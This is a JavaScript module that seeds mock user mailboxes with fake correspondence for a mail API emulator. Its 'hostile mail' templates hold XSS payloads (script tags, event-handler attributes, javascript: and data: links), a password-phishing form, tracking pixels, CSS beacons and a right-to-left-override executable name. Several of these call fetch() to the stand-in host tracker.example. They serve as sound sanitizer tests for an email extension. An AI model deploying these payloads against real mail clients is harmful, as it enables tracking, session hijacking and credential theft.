// Seeded mailboxes: a realistic, deterministic set of messages for every new user.
//
// The content depends only on the user's email address (a PRNG seeded with its SHA-256); the
// dates are spread over the four weeks before the user's creation time. All correspondents use
// reserved `.example` domains (RFC 2606).

import { createHash } from 'node:crypto';

/** Folder names of every seeded mailbox; `[Gmail]/All Mail` holds every message. */
export const FOLDERS = Object.freeze([
  { name: 'INBOX', attributes: { HasNoChildren: true }, delimiter: '/' },
  { name: 'Sent', attributes: { HasNoChildren: true, Sent: true }, delimiter: '/' },
  { name: '[Gmail]/All Mail', attributes: { HasNoChildren: true, All: true }, delimiter: '/' },
]);

const INBOX = 'INBOX';
const SENT = 'Sent';
const ALL = '[Gmail]/All Mail';
const HOUR = 3600;
const DAY = 24 * HOUR;

const PEOPLE = {
  priya: { name: 'Priya Raman', email: 'priya.raman@northwind.example' },
  marcus: { name: 'Marcus Oyelaran', email: 'marcus@oyelaran-design.example' },
  zoe: { name: 'Zoë Lindqvist', email: 'zoe.lindqvist@fjordlabs.example' },
  tomas: { name: 'Tomás Ferreira', email: 'tomas.ferreira@northwind.example' },
  hannah: { name: 'Hannah Cho', email: 'hannah.cho@brightline.example' },
  dev: { name: 'Dev Patel', email: 'dev@patel-family.example' },
  aiko: { name: 'Aiko Tanaka', email: 'aiko.tanaka@kumo.example' },
  olivia: { name: 'Olivia Brennan', email: 'olivia@brennan-law.example' },
  github: { name: 'GitHub', email: 'notifications@github.example' },
  calendar: { name: 'Calendar', email: 'calendar-noreply@cal.example' },
  billing: { name: 'Acme Cloud Billing', email: 'billing@acmecloud.example' },
  rail: { name: 'Rail Tickets', email: 'tickets@rail.example' },
  weekly: { name: 'The Weekly Byte', email: 'newsletter@weeklybyte.example' },
  books: { name: 'Corner Bookshop', email: 'orders@corner-bookshop.example' },
};

/**
 * Standalone inbound messages. `n` is a small random number for invoice numbers and the like.
 * @type {Array<{from: keyof PEOPLE, cc?: Array<keyof PEOPLE>, subject: (n: number) => string, body: (first: string, n: number) => string, archived?: boolean}>}
 */
const INBOUND = [
  {
    from: 'github',
    subject: (n) => `[acme/api-gateway] Fix retry budget on 429 responses (PR #${200 + n})`,
    body: (_, n) =>
      `@hannah-cho requested your review on pull request #${200 + n}.\n\n` +
      'The retry budget was shared across tenants, so one noisy client could exhaust it for everyone.\n' +
      'This change keys the budget by tenant id and adds a test for the 429 path.\n\n' +
      `-- \nReply to this email directly or view it on GitHub:\nhttps://github.example/acme/api-gateway/pull/${200 + n}`,
  },
  {
    from: 'calendar',
    subject: () => 'Invitation: Design review @ Thu 14:00 - 15:00 (UTC)',
    body: (first) =>
      `Hi ${first},\n\nHannah Cho has invited you to "Design review".\n\n` +
      'When: Thursday 14:00 - 15:00 (UTC)\nWhere: Room 4B / video link in the event\n\n' +
      'Going? Yes - Maybe - No\n\nInvitation from the calendar of hannah.cho@brightline.example',
  },
  {
    from: 'billing',
    subject: (n) => `Your invoice INV-2024-${String(1000 + n * 7).padStart(5, '0')} is available`,
    body: (first, n) =>
      `Hello ${first},\n\nYour invoice for this month is ready.\n\n` +
      `Amount due: $${(40 + n * 3.25).toFixed(2)}\nDue date: in 14 days\n\n` +
      'You can download the PDF from the billing console. Thank you for using Acme Cloud.\n\n— The Acme Cloud team',
  },
  {
    from: 'rail',
    subject: () => 'Your e-ticket: London King’s Cross → Edinburgh',
    body: (first, n) =>
      `Dear ${first},\n\nThank you for your booking (reference RT${4000 + n * 13}).\n\n` +
      `Outbound: 08:00 London King’s Cross → 12:21 Edinburgh Waverley\nCoach C, seat ${10 + n}\n\n` +
      'Show the attached QR code on your phone when asked. Have a pleasant journey!',
  },
  {
    from: 'weekly',
    archived: true,
    subject: (n) => `The Weekly Byte #${120 + n}: WebAssembly outside the browser`,
    body: () =>
      'This week: running WebAssembly in edge functions, a gentle introduction to the component model, ' +
      'and why your OAuth signatures fail when you forget to percent-encode the plus sign.\n\n' +
      '1. Wasm at the edge, two years on\n2. Signing requests by hand (and why you should not)\n' +
      '3. A tiny HTTP server in 200 lines\n\nUnsubscribe: https://weeklybyte.example/u',
  },
  {
    from: 'weekly',
    archived: true,
    subject: (n) => `The Weekly Byte #${119 + n}: Browser extensions in Manifest V3`,
    body: () =>
      'Service workers instead of background pages, promise-based APIs in both Chrome and Firefox, ' +
      'and a look at what host_permissions really grant.\n\nUnsubscribe: https://weeklybyte.example/u',
  },
  {
    from: 'books',
    subject: (n) => `Order #CB-${5500 + n * 11} has shipped`,
    body: (first) =>
      `Hi ${first},\n\nGood news: your order is on its way.\n\n` +
      '1 × "The Pragmatic Programmer" (20th anniversary edition)\n1 × "Designing Data-Intensive Applications"\n\n' +
      'Estimated delivery: 2–3 working days.\n\nHappy reading,\nCorner Bookshop',
  },
  {
    from: 'zoe',
    subject: () => 'Slides from the meetup',
    body: (first) =>
      `Hej ${first}!\n\nAs promised, here are the slides from Tuesday's meetup: ` +
      'https://fjordlabs.example/talks/oauth-by-hand\n\nThe bit about signature base strings got the most questions; ' +
      'I might turn it into a blog post.\n\nVänliga hälsningar,\nZoë',
  },
  {
    from: 'marcus',
    subject: () => 'Logo concepts, round 2',
    body: (first) =>
      `Hi ${first},\n\nAttached are three new directions based on your feedback: a wordmark, ` +
      'a monogram and a more playful envelope mark. I prefer the monogram at small sizes.\n\n' +
      'Could you let me know which one to refine by Friday?\n\nCheers,\nMarcus',
  },
  {
    from: 'aiko',
    cc: ['hannah'],
    subject: () => 'Translation review for the Japanese release',
    body: (first) =>
      `Hi ${first},\n\nI went through the Japanese strings. Two notes: "Connect account" reads better as ` +
      '「アカウントを接続」, and the date format should be YYYY年M月D日.\n\nI left the rest as comments in the sheet.\n\n' +
      'Best,\nAiko',
  },
  {
    from: 'olivia',
    subject: () => 'Contract renewal — a few questions',
    body: (first) =>
      `Dear ${first},\n\nBefore we send the renewal to the client, could you confirm:\n\n` +
      '1. the new term (12 or 24 months)?\n2. whether the data-processing addendum changes?\n\n' +
      'A short reply is fine.\n\nKind regards,\nOlivia Brennan',
  },
  {
    from: 'hannah',
    subject: () => 'Lunch & learn next week?',
    body: (first) =>
      `Hey ${first},\n\nWould you be up for a 20-minute lunch & learn about the email integration next week? ` +
      'Nothing fancy: how the signing works and a live demo.\n\nHannah',
  },
  {
    from: 'github',
    subject: (n) => `[acme/signer] Issue #${40 + n}: Signature mismatch when the query has a '+'`,
    body: (_, n) =>
      'A user reports that requests with `q=a+b` fail with "Invalid signature".\n\n' +
      'In application/x-www-form-urlencoded a "+" is a space, so the parameter must be signed as "a b" ' +
      '(encoded "a%20b").\n\n' +
      `-- \nView it on GitHub: https://github.example/acme/signer/issues/${40 + n}`,
  },
  {
    from: 'calendar',
    subject: () => 'Reminder: Dentist appointment tomorrow at 09:30',
    body: () => 'This is a reminder for "Dentist appointment" tomorrow at 09:30.\n\nYou are receiving this because you set a reminder.',
  },
  {
    from: 'dev',
    subject: () => 'Photos from the weekend',
    body: (first) =>
      `${first}! Uploaded the photos from the hike to the shared album. ` +
      'The one at the ridge came out great. Mum wants prints.\n\nDev',
  },
  {
    from: 'billing',
    archived: true,
    subject: () => 'Action recommended: enable two-factor authentication',
    body: (first) =>
      `Hello ${first},\n\nWe recommend enabling two-factor authentication for your Acme Cloud account. ` +
      'It takes about a minute from Settings → Security.\n\n— The Acme Cloud team',
  },
  {
    from: 'tomas',
    subject: () => 'Heads-up: staging will be down Saturday morning',
    body: (first) =>
      `Olá ${first},\n\nWe are migrating the staging database on Saturday between 07:00 and 10:00 UTC. ` +
      'Expect 502s from the staging API during that window.\n\nAbraço,\nTomás',
  },
  {
    from: 'priya',
    subject: () => 'Quarterly goals: first draft',
    body: (first) =>
      `Hi ${first},\n\nHere is the first draft of the quarterly goals. The big ones are the browser ` +
      'extension beta and cutting the API error rate in half.\n\nComments welcome until Wednesday.\n\nPriya',
  },
];

/**
 * Conversations: the user's replies go to Sent, the others to INBOX. Each step starts
 * `after` hours after the previous one.
 * @type {Array<{subject: string, steps: Array<{from: keyof PEOPLE | 'me', to?: keyof PEOPLE, cc?: Array<keyof PEOPLE>, after: number, body: (first: string) => string}>}>}
 */
const THREADS = [
  {
    subject: 'Offsite venue shortlist',
    steps: [
      {
        from: 'priya',
        after: 0,
        body: (first) =>
          `Hi ${first},\n\nI narrowed the offsite venues down to two: the lake house (fits 30, no projector) ` +
          'and the old mill (fits 45, more expensive). Any preference?\n\nPriya',
      },
      {
        from: 'me',
        to: 'priya',
        after: 3,
        body: () =>
          'Hi Priya,\n\nThe old mill, I think: we will be close to 30 already and a projector matters ' +
          'for the planning sessions. Happy to cover the difference from my budget.\n\nThanks for sorting this out!',
      },
      {
        from: 'priya',
        after: 20,
        body: (first) => `Perfect, booked the old mill for the 14th–15th. Calendar invite to follow.\n\nThanks ${first}!\nPriya`,
      },
    ],
  },
  {
    subject: 'Draft of the Q3 roadmap',
    steps: [
      {
        from: 'tomas',
        cc: ['hannah'],
        after: 0,
        body: (first) =>
          `${first}, Hannah,\n\nDraft roadmap attached. Main open question: do we ship the extension ` +
          'before or after the connect-token flow is stable?\n\nTomás',
      },
      {
        from: 'me',
        to: 'tomas',
        cc: ['hannah'],
        after: 5,
        body: () =>
          'After, please. The extension without a reliable connect flow is a support nightmare.\n\n' +
          'Everything else looks good to me.',
      },
      {
        from: 'hannah',
        cc: ['tomas'],
        after: 2,
        body: () => 'Agreed with that. I moved the extension to the second half of the quarter.\n\nHannah',
      },
    ],
  },
  {
    subject: 'Dinner on Saturday?',
    steps: [
      {
        from: 'dev',
        after: 0,
        body: (first) => `Hey ${first}, we're doing dinner at ours on Saturday, 7-ish. You in? Bring nothing but yourself.`,
      },
      {
        from: 'me',
        to: 'dev',
        after: 1,
        body: () => "Count me in! I'll bring dessert anyway :)",
      },
    ],
  },
];

/** Messages the user sent that started no thread. */
const SENT_ONLY = [
  {
    to: 'marcus',
    subject: 'Re: feedback on the logo',
    body: () => 'Hi Marcus,\n\nLoved the first round. Could we try something with less blue and a bolder weight?\n\nThanks!',
  },
  {
    to: 'olivia',
    subject: 'Signed NDA',
    body: () => 'Hi Olivia,\n\nPlease find the signed NDA attached.\n\nBest regards',
  },
  {
    to: 'zoe',
    subject: 'Thanks for the talk!',
    body: () => 'Hi Zoë,\n\nGreat talk on Tuesday. Would you share the slides? I want to show the base-string part to my team.\n\nCheers',
  },
];

// ---------------------------------------------------------------------------------- hostile mail

/**
 * Where hostile mail points: a reserved name (RFC 2606) that resolves nowhere, so nothing leaves
 * the machine even when a client loads it. The extension's end-to-end tests send every
 * non-loopback request of the browser to a recording proxy and assert that no such URL was
 * ever asked for. Each path names the trick that would have fetched it.
 */
export const TRACKER = 'http://tracker.example';

const T = TRACKER;
/** What a script would do if it ran: call home, and tell the page that embeds it. */
const run = (name) => `fetch('${T}/exec/${name}');parent.postMessage('executed:${name}','*');top.postMessage('executed:${name}','*')`;

const SENDERS = {
  attacker: { name: '"<script>alert(1)</script>" Security Team', email: 'security@evil.example' },
  promo: { name: 'MegaStore Deals', email: 'deals@megastore.example' },
  archive: { name: 'Archive Robot', email: 'robot@archive.example' },
  klingon: { name: 'Kor', email: 'kor@qonos.example' },
  empty: { name: 'Nobody', email: 'nobody@void.example' },
};

let largeBody = null;
/** A 2 MB HTML body, built once on first use (never stored in the data file). */
function large() {
  if (largeBody) return largeBody;
  const rows = [];
  let size = 0;
  for (let i = 1; size < 2 * 1024 * 1024; i++) {
    const row = `<tr><td>${i}</td><td>2024-01-${String((i % 28) + 1).padStart(2, '0')}</td><td>Archived entry number ${i}: nothing to see here, only a lot of it.</td></tr>\n`;
    rows.push(row);
    size += row.length;
  }
  largeBody = `<html><body><h1>The complete archive</h1><table border="1">\n${rows.join('')}</table><p id="the-end">The end of the archive.</p></body></html>`;
  return largeBody;
}

/**
 * Messages that try every trick a mail client must survive, and one well-behaved HTML
 * newsletter. Stored in a mailbox by name (`template`); their bodies are built here on read.
 * @type {Record<string, {from: keyof SENDERS | keyof PEOPLE, subject: string, bodies: () => Array<{type: string, charset: string, content: string}>}>}
 */
export const TEMPLATES = {
  'html-newsletter': {
    from: 'weekly',
    subject: 'The Weekly Byte, HTML edition: signing requests by hand',
    bodies: () => [
      {
        type: 'text/plain',
        charset: 'UTF-8',
        content: 'THE WEEKLY BYTE\n\nSigning requests by hand (and why you should not)\n\n1. Percent-encode everything, twice where the RFC says so.\n2. Sort the parameters by their encoded names.\n3. Keep the base string for debugging.\n\nRead online: https://weeklybyte.example/issues/html',
      },
      {
        type: 'text/html',
        charset: 'UTF-8',
        content: `<!doctype html><html><head><style>
  .wrap{max-width:560px;margin:0 auto;font-family:Georgia,serif;color:#222}
  .masthead{background:#2f6fed;color:#fff;padding:18px 22px;border-radius:8px 8px 0 0}
  .masthead h1{margin:0;font-size:26px;letter-spacing:.04em}
  .item{padding:14px 22px;border:1px solid #dde1e8;border-top:0}
  .item h2{margin:0 0 6px;font-size:18px;color:#1a3f8f}
  .tag{display:inline-block;background:#e8f0fe;color:#1a3f8f;border-radius:10px;padding:1px 8px;font:12px sans-serif}
  .foot{font:12px sans-serif;color:#777;padding:10px 22px}
</style></head><body><div class="wrap">
<div class="masthead"><h1>THE WEEKLY BYTE</h1><div>Issue 121 &middot; HTML edition</div></div>
<div class="item"><span class="tag">OAuth</span><h2>Signing requests by hand</h2>
<p>Percent-encode everything, sort the parameters by their <em>encoded</em> names, and keep the base string: it is the first thing to compare when a server says <code>Invalid signature</code>.</p></div>
<div class="item"><span class="tag">WebAssembly</span><h2>Wasm at the edge, two years on</h2>
<p>Cold starts are down, sizes matter more than ever. <a href="https://weeklybyte.example/wasm-edge">Read the article</a>.</p></div>
<div class="item"><span class="tag">Extensions</span><h2>What host permissions really grant</h2>
<table style="border-collapse:collapse;font:13px sans-serif"><tr><th style="text-align:left;padding:2px 10px 2px 0">Browser</th><th style="text-align:left">Granted at install</th></tr>
<tr><td style="padding:2px 10px 2px 0">Chrome</td><td>required hosts</td></tr><tr><td style="padding:2px 10px 2px 0">Firefox</td><td>the person decides</td></tr></table></div>
<div class="foot">You receive this because you subscribed. <a href="https://weeklybyte.example/u">Unsubscribe</a></div>
</div></body></html>`,
      },
    ],
  },
  'inline-scripts': {
    from: 'attacker',
    subject: 'Hostile: inline scripts <img src=x onerror=alert(1)>',
    bodies: () => [{
      type: 'text/html',
      charset: 'UTF-8',
      content: `<html><head><title>Quarterly report</title>
<meta http-equiv="refresh" content="0;url=${T}/exec/meta-refresh">
<base href="${T}/base/">
<link rel="stylesheet" href="${T}/beacon/link-stylesheet.css"><link rel="prefetch" href="${T}/beacon/link-prefetch"><link rel="preload" as="image" href="${T}/beacon/link-preload.png">
<script>${run('head-script')}</script></head>
<body><h1>Quarterly report</h1>
<script>${run('inline-script')};document.title='pwned'</script>
<script src="${T}/exec/script-src.js"></script>
<noscript><img src="${T}/beacon/noscript.gif" alt=""></noscript>
<svg width="10" height="10"><script>${run('svg-script')}</script></svg>
<iframe src="${T}/beacon/iframe"></iframe>
<iframe srcdoc="<script>${run('iframe-srcdoc')}</script>"></iframe>
<object data="${T}/beacon/object"></object><embed src="${T}/beacon/embed">
<p id="after-scripts">The figures are in the attachment. This line comes after the scripts.</p>
</body></html>`,
    }],
  },
  'event-handlers': {
    from: 'attacker',
    subject: 'Hostile: onerror and onload attributes',
    bodies: () => [{
      type: 'text/html',
      charset: 'UTF-8',
      content: `<body onload="${run('body-onload')}"><p>Your parcel is waiting.</p>
<img src="x" onerror="${run('img-onerror')}" alt="broken">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run('img-onload')}" alt="">
<svg onload="${run('svg-onload')}" width="10" height="10"></svg>
<details open ontoggle="${run('details-ontoggle')}"><summary>Details</summary>Tracking number 0042</details>
<input autofocus onfocus="${run('input-onfocus')}" value="focus me">
<div onmouseover="${run('div-onmouseover')}" style="padding:8px;border:1px solid #ccc">Hover here</div>
<video><source onerror="${run('video-source-onerror')}"></video>
<style onload="${run('style-onload')}">p{color:#333}</style>
</body>`,
    }],
  },
  links: {
    from: 'attacker',
    subject: 'Hostile: javascript: and data: links',
    bodies: () => [{
      type: 'text/html',
      charset: 'UTF-8',
      content: `<p>Please confirm your account.</p>
<p><a id="js-link" href="javascript:${run('javascript-link')}">Open your invoice</a></p>
<p><a id="data-link" href="data:text/html;base64,${Buffer.from(`<script>${run('data-link')}</script>`).toString('base64')}">View it online</a></p>
<p><a id="vbscript-link" href="vbscript:msgbox(1)">Old-school link</a></p>
<p><a id="top-link" href="${T}/nav/top" target="_top">Log in to keep your account</a></p>
<p><a id="blank-link" href="${T}/nav/blank" target="_blank">Unsubscribe</a></p>
<p><a id="self-link" href="${T}/nav/self">Read more</a></p>
<svg width="120" height="20"><a id="svg-link" xlink:href="javascript:${run('svg-link')}"><text x="0" y="15">SVG link</text></a></svg>
<form id="phish" action="${T}/exec/form" method="post"><input name="password" type="password" value="hunter2"><button id="phish-submit" type="submit">Verify your account</button></form>
<p><a href="https://example.org/safe">A harmless link, listed under the message</a></p>`,
    }],
  },
  'tracking-pixel': {
    from: 'promo',
    subject: 'Hostile: a remote tracking pixel',
    bodies: () => [{
      type: 'text/html',
      charset: 'UTF-8',
      content: `<p>Spring deals are here: 20% off everything this week.</p>
<img id="pixel" src="${T}/pixel.gif?campaign=spring&amp;recipient=you" width="1" height="1" alt="">
<img id="pixel-srcset" srcset="${T}/pixel.gif?via=srcset 1x" width="1" height="1" alt="">`,
    }],
  },
  'css-beacon': {
    from: 'promo',
    subject: 'Hostile: a CSS url() beacon',
    bodies: () => [{
      type: 'text/html',
      charset: 'UTF-8',
      content: `<style>
@import url("${T}/beacon/css-import.css");
.promo{background-image:url('${T}/beacon/css-rule.png');padding:12px;border:1px solid #ccc}
@font-face{font-family:beacon;src:url(${T}/beacon/css-font.woff)}
.promo strong{font-family:beacon,sans-serif}
</style>
<div class="promo"><strong>Spring sale</strong> with a background image that phones home.</div>
<div style="background:url(//tracker.example/beacon/css-inline.png);padding:12px">An inline style that does the same.</div>
<table background="${T}/beacon/table-background.png"><tr><td>An old-fashioned table background.</td></tr></table>`,
    }],
  },
  large: {
    from: 'archive',
    subject: 'Hostile: a 2 MB body',
    bodies: () => [{ type: 'text/html', charset: 'UTF-8', content: large() }],
  },
  'unknown-charset': {
    from: 'klingon',
    subject: 'Hostile: an unknown charset',
    bodies: () => [{
      type: 'text/plain',
      charset: 'x-klingon-pIqaD',
      content:
        "Qapla'! This body declares a character set that nobody knows.\n" +
        'Bytes that did not decode: \uFFFD\uFFFD\uFFFD.\n' +
        'Terminal escapes: \u001b[31mred\u001b[0m, a bell \u0007, a C1 control \u009b.\n' +
        'A right-to-left override that turns a name around: invoice_\u202Efdp.exe\n',
    }],
  },
  'missing-body': {
    from: 'empty',
    subject: 'Hostile: a message without a body',
    bodies: () => [],
  },
};

/** Hostile and HTML messages of every seeded mailbox, oldest first after the others. */
const TEMPLATE_ORDER = ['html-newsletter', 'inline-scripts', 'event-handlers', 'links', 'tracking-pixel', 'css-beacon', 'large', 'unknown-charset', 'missing-body'];

const sizes = new Map();
/** UTF-8 size of a template body, computed once per body. */
function byteSize(template, index, content) {
  const key = `${template}/${index}`;
  if (!sizes.has(key)) sizes.set(key, Buffer.byteLength(content, 'utf8'));
  return sizes.get(key);
}

/**
 * Small deterministic PRNG (sfc32) seeded from a string.
 * @param {string} seed
 * @returns {() => number} Uniform floats in [0, 1).
 */
function seededRandom(seed) {
  const h = createHash('sha256').update(seed).digest();
  let a = h.readUInt32LE(0);
  let b = h.readUInt32LE(4);
  let c = h.readUInt32LE(8);
  let d = h.readUInt32LE(12);
  return () => {
    const t = (((a + b) | 0) + d) | 0;
    d = (d + 1) | 0;
    a = b ^ (b >>> 9);
    b = (c + (c << 3)) | 0;
    c = (c << 21) | (c >>> 11);
    c = (c + t) | 0;
    return (t >>> 0) / 4294967296;
  };
}

/**
 * Display name guessed from an address: `alice.smith@x` -> "Alice Smith".
 * @param {string} email
 * @returns {string}
 */
export function nameFromEmail(email) {
  const local = email.split('@', 1)[0] || email;
  return local
    .split(/[._+-]+/)
    .filter(Boolean)
    .map((w) => w[0].toUpperCase() + w.slice(1))
    .join(' ');
}

function hexId(...parts) {
  return createHash('sha1').update(parts.join('\u0000')).digest('hex');
}

/**
 * @typedef {object} StoredMessage
 * @property {string} message_id
 * @property {string} email_message_id
 * @property {string} subject
 * @property {number} date Unix seconds (the Date header).
 * @property {number} date_received Unix seconds.
 * @property {{email: string, name: string}} from
 * @property {Array<{email: string, name: string}>} to
 * @property {Array<{email: string, name: string}>} cc
 * @property {string[]} folders
 * @property {{read: boolean, answered: boolean, flagged: boolean, draft: boolean}} flags
 * @property {string | null} in_reply_to
 * @property {string[]} references
 * @property {string} body Plain-text body ('' when `template` gives the bodies).
 * @property {string} [template] A key of TEMPLATES: the bodies are built from it on read.
 */

/**
 * Builds the seeded mailbox of a new user.
 * @param {string} email The user's address; the only input of the content.
 * @param {number} created Unix seconds; messages are dated in the 28 days before it.
 * @returns {{folders: Array<{name: string, attributes: Record<string, boolean>, delimiter: string}>, messages: StoredMessage[]}}
 */
export function seedMailbox(email, created) {
  const key = email.toLowerCase();
  const rand = seededRandom(key);
  const int = (lo, hi) => lo + Math.floor(rand() * (hi - lo + 1));
  const first = nameFromEmail(email).split(' ')[0] || 'there';
  const me = { email, name: nameFromEmail(email) };
  const person = (k) => ({ ...PEOPLE[k] });
  /** @type {StoredMessage[]} */
  const messages = [];

  const add = ({ from, to, cc = [], subject, body, date, inReplyTo = null, references = [], sent = false, archived = false }) => {
    const i = messages.length;
    const id = hexId(key, 'message', i);
    const senderDomain = from.email.split('@')[1];
    messages.push({
      message_id: id.slice(0, 24),
      email_message_id: `<${id.slice(24, 40)}.${i}@${senderDomain}>`,
      subject,
      date,
      date_received: sent ? date : date + int(2, 90),
      from,
      to,
      cc,
      folders: sent ? [SENT, ALL] : archived ? [ALL] : [INBOX, ALL],
      flags: { read: true, answered: false, flagged: false, draft: false },
      in_reply_to: inReplyTo,
      references,
      body,
    });
    return messages[i];
  };

  // Standalone inbound messages: a deterministic shuffle of the templates, dated at random.
  const order = INBOUND.map((t, i) => ({ t, k: rand(), i }));
  order.sort((x, y) => x.k - y.k);
  for (const { t } of order) {
    const n = int(1, 9);
    add({
      from: person(t.from),
      to: [me],
      cc: (t.cc ?? []).map(person),
      subject: t.subject(n),
      body: t.body(first, n),
      date: created - int(HOUR, 27 * DAY),
      archived: Boolean(t.archived),
    });
  }

  // Threads: each starts on a random day and follows its steps' delays.
  for (const thread of THREADS) {
    let date = created - int(4 * DAY, 25 * DAY);
    /** @type {StoredMessage | null} */
    let previous = null;
    for (const step of thread.steps) {
      date += step.after * HOUR + int(0, 50 * 60);
      const sent = step.from === 'me';
      const msg = add({
        from: sent ? me : person(step.from),
        to: [sent ? person(step.to) : me],
        cc: (step.cc ?? []).map(person),
        subject: previous ? `Re: ${thread.subject}` : thread.subject,
        body: step.body(first),
        date: Math.min(date, created - 60),
        inReplyTo: previous?.email_message_id ?? null,
        references: previous ? [...previous.references, previous.email_message_id] : [],
        sent,
      });
      if (sent && previous) previous.flags.answered = true;
      previous = msg;
    }
  }

  for (const s of SENT_ONLY) {
    add({ from: me, to: [person(s.to)], subject: s.subject, body: s.body(), date: created - int(DAY, 26 * DAY), sent: true });
  }

  // The hostile messages and the HTML newsletter: in INBOX, older than everything else. No call
  // to rand() here, so the rest of the mailbox is what it was before they existed.
  TEMPLATE_ORDER.forEach((name, k) => {
    const t = TEMPLATES[name];
    const from = SENDERS[t.from] ? { ...SENDERS[t.from] } : person(t.from);
    const date = created - 28 * DAY - (k + 1) * HOUR;
    const i = messages.length;
    const id = hexId(key, 'message', i);
    messages.push({
      message_id: id.slice(0, 24),
      email_message_id: `<${name}.${id.slice(24, 32)}@${from.email.split('@')[1]}>`,
      subject: t.subject,
      date,
      date_received: date + 60,
      from,
      to: [me],
      cc: [],
      folders: [INBOX, ALL],
      flags: { read: true, answered: false, flagged: false, draft: false },
      in_reply_to: null,
      references: [],
      body: '',
      template: name,
    });
  });

  // Newest first, then flags: the most recent inbound messages are unread, a few are starred.
  messages.sort((a, b) => b.date - a.date || a.message_id.localeCompare(b.message_id));
  let unread = int(3, 6);
  for (const m of messages) {
    if (m.folders.includes(INBOX) && unread > 0) {
      m.flags.read = false;
      unread -= 1;
    }
    if (!m.folders.includes(SENT) && rand() < 0.12) m.flags.flagged = true;
  }
  return { folders: FOLDERS.map((f) => ({ ...f, attributes: { ...f.attributes } })), messages };
}

/**
 * Messages of one folder, newest first.
 * @param {{messages: StoredMessage[]}} mailbox
 * @param {string} folder
 * @returns {StoredMessage[]}
 */
export function messagesInFolder(mailbox, folder) {
  return mailbox.messages.filter((m) => m.folders.includes(folder)).sort((a, b) => b.date - a.date);
}

/**
 * Context.IO Lite folder object.
 * @param {{messages: StoredMessage[]}} mailbox
 * @param {{name: string, attributes: Record<string, boolean>, delimiter: string}} folder
 * @param {string} resourceUrl
 */
export function folderView(mailbox, folder, resourceUrl) {
  const inFolder = messagesInFolder(mailbox, folder.name);
  return {
    name: folder.name,
    attributes: folder.attributes,
    delimiter: folder.delimiter,
    nb_messages: inFolder.length,
    nb_unseen_messages: inFolder.filter((m) => !m.flags.read).length,
    resource_url: resourceUrl,
  };
}

/**
 * Context.IO Lite message object.
 * @param {StoredMessage} m
 * @param {{includeBody: boolean, resourceUrl: string}} opts
 */
export function messageView(m, { includeBody, resourceUrl }) {
  const view = {
    message_id: m.message_id,
    email_message_id: m.email_message_id,
    subject: m.subject,
    date: m.date,
    date_received: m.date_received,
    sent_at: m.date,
    addresses: { from: m.from, to: m.to, cc: m.cc },
    folders: m.folders,
    flags: m.flags,
    in_reply_to: m.in_reply_to,
    references: m.references,
    resource_url: resourceUrl,
  };
  if (includeBody) {
    const template = m.template !== undefined ? TEMPLATES[m.template] : undefined;
    view.bodies = template
      ? template.bodies().map((b, i) => ({ ...b, size: byteSize(m.template, i, b.content), body_section: String(i + 1) }))
      : [{ type: 'text/plain', charset: 'UTF-8', size: Buffer.byteLength(m.body, 'utf8'), content: m.body, body_section: '1' }];
  }
  return view;
}
